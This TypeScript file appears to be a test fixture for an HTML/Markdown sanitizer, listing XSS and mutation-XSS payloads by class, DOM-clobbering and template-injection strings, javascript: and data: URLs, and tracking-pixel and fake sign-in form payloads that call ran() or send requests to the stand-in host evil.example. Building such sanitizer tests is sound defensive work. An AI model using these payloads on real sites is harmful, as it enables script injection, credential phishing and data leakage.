// Texts that try to run a script, to send a request to another origin or to leave their place in the page. They are written for
// these tests, a few for each class of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and of
// the mutations described in https://research.securitum.com/mutation-xss-via-mathml-mutation-dompurify-2-0-17-bypass/. A text
// that succeeds calls `ran()` or requests https://evil.example.

const scripts = [
  '<script>ran()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>ran()</script >',
  '<script\n>ran()\n</script\n>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<svg><script>ran()</script></svg>',
  '<svg><script xlink:href=https://evil.example/x.js></script></svg>',
  '<noscript><p title="</noscript><script>ran()</script>"></noscript>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</script><script>ran()</script>',
  '--><script>ran()</script>',
  ']]><script>ran()</script>',
];

const elements = [
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()"',
  '<img/src=x/onerror=ran()>',
  '<IMG SRC=x OnErRoR=ran()>',
  '<img src=x onerror=&#114;&#97;&#110;&#40;&#41;>',
  '<img src=x\tonerror\n=\nran()>',
  '<img """><img src=x onerror=ran()>">',
  "<img src='x' onerror='ran()' alt='`>'>",
  '<image src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()//',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><set onbegin=ran() attributeName=x>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<object data=x onerror=ran()></object>',
  '<style onload=ran()></style>',
  '<link rel=stylesheet href=/assets/x.css onerror=ran()>',
  '<div style=animation-name:x onanimationstart=ran()>x</div>',
  '<button popovertarget=x>x</button><p id=x popover onbeforetoggle=ran()>x</p>',
  '<div contenteditable autofocus onfocus=ran() tabindex=1>x</div>',
];

const addresses = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  ' javascript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  'java&Tab;script:ran()',
  '&#106;avascript:ran()',
  '&#x6A;avascript&#x3A;ran()',
  'javascript://https://example.com/%0Aran()',
  'vbscript:ran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
];

/** The places of HTML and Markdown that take an address. */
const places = [
  (address: string) => `[link](${address})`,
  (address: string) => `[link](<${address}>)`,
  (address: string) => `![image](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[![x](${address})](${address})`,
  (address: string) => `<a href="${address}">link</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
];

const attributes = [
  '[x](https://evil.example/" onclick="ran())',
  '[x](<https://evil.example/" onmouseover="ran()>)',
  '[x](https://evil.example/ "title\\" onclick=\\"ran()")',
  '![x"onerror="ran()](x)',
  '![x](x"onerror="ran())',
  '![" onerror="ran()](https://evil.example/x.png " onload=ran() ")',
  '<https://evil.example/"onclick="ran()>',
  'https://evil.example/"onclick="ran()',
  '[a]: javascript:ran()\n\n[a] and [text][a]',
  '| <img src=x onerror=ran()> | [x](javascript:ran()) |\n| --- | :-: |\n| `<svg onload=ran()>` | <b onclick=ran()>x</b> |',
  '# <img src=x onerror=ran()> [x](javascript:ran())',
  '> <img src=x onerror=ran()>',
  '- [ ] <img src=x onerror=ran()>',
  '`<img src=x onerror=ran()>`',
  '*<img src=x*onerror=ran()*>*',
  '    <script>ran()</script>',
  '@<img src=x onerror=ran()> @ada"onclick="ran()',
];

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>',
  '<math href="javascript:ran()">x</math>',
  '<svg><a xlink:href="javascript:ran()"><text x=20 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:ran()"/><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ran()/>#x"/></svg>',
  '<template><img src=x onerror=ran()></template>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<table><td><a href="<img src=x onerror=ran()>"><caption><img src=x onerror=ran()>',
  '<select><style></select><img src=x onerror=ran()></style>',
  '<noembed><img alt="</noembed><img src=x onerror=ran()>"></noembed>',
  '<xmp><p id="</xmp><img src=x onerror=ran()>">',
  '<p id="<!--"></p><img src=x onerror=ran()>-->',
  '<!--><img src=x onerror=ran()>-->',
  '<!--[if gte IE 4]><script>ran()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml-stylesheet href="javascript:ran()"?><img src=x onerror=ran()>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
  '<a id=x><a id=x name=y href=javascript:ran()></a></a>',
];

const names = [
  '<form id=root><input name=children><input name=attributes></form>',
  '<form name=body><img name=firstChild></form>',
  '<img name=getElementById><img name=cookie><img name=createElement>',
  '<a id=location href=https://evil.example/></a><a id=defaultView></a>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '{{constructor.constructor("ran()")()}} #{ran()} <%= ran() %> $' + '{ran()}',
  '__proto__ constructor [object Object] %00 %3Cscript%3Eran()%3C/script%3E',
  '";ran();// \';ran();// `;ran();// \\";ran();// </script',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e \uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E',
  '\u202B<script>ran()</script>\u202C \u2028ran()\u2029 \uFEFF<script>ran()</script>',
  'jaVasCript:/*-/*`/*\'/*"/**/(/* */oNcliCk=ran() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/oNloAd=ran()//>',
];

const requests = [
  '![pixel](https://evil.example/pixel.png)',
  '![pixel](//evil.example/pixel.png)',
  '<img src=https://evil.example/x srcset="https://evil.example/y 2x">',
  '<picture><source srcset=https://evil.example/x><img src=x></picture>',
  '<video poster=https://evil.example/x src=https://evil.example/y></video>',
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=preload as=image href=https://evil.example/x>',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/x) }</style>',
  '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
  '<table background=https://evil.example/x><td background=https://evil.example/y>x</td></table>',
  '<input type=image src=https://evil.example/x><button formaction=https://evil.example/>x</button>',
  '<form action=https://evil.example/ method=post><input name=password><button>Sign in again</button></form>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '<frameset><frame src=https://evil.example/x></frameset>',
  '<svg><image href=https://evil.example/x /><feImage href=https://evil.example/y /></svg>',
  '<a href=/sign-in ping=https://evil.example/x>x</a>',
];

/** Texts that hide all texts after them. */
const unclosed = [
  '<!-- <img src=x onerror=ran()>',
  '<script>ran()',
  '<style>',
  '<textarea>',
  '<plaintext>',
  '```html\n<script>ran()</script>',
];

const join = (texts: readonly string[]) => texts.join('\n\n');

/** Markdown texts by class. `handlers`: the names of all attributes that run a script, such as `onclick`. */
export function hostileMarkdown(handlers: readonly string[]): Record<string, string> {
  return {
    scripts: join(scripts),
    elements: join(elements),
    addresses: join(addresses.flatMap((address) => places.map((place) => place(address)))),
    attributes: join(attributes),
    mutations: join(mutations),
    names: join(names),
    requests: join(requests),
    handlers: join(handlers.map((handler) => `<img src=x tabindex=0 ${handler}=ran()>`)),
    ...Object.fromEntries(unclosed.map((text, index) => [`unclosed ${index}`, text])),
  };
}

/** Texts of one line for titles, names and labels. */
export const hostileLines = [...scripts, ...elements, ...names, ...mutations].filter(
  (text) => !/[\n\t\u2028\u2029]/.test(text),
);
